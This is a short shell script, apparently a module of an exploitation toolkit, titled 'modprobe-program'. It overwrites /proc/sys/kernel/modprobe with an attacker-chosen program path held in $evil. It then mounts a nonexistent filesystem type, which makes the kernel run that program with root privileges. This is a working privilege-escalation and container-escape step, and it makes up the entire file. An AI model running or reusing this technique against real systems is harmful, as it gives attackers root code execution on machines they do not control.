# shellcheck shell=sh disable=SC2154
#
# modprobe-program - let the kernel start a program instead of modprobe
#
# SPDX-License-Identifier: MIT

echo "$evil" >/proc/sys/kernel/modprobe
mount -t nosuchfilesystem none /mnt
sleep 1
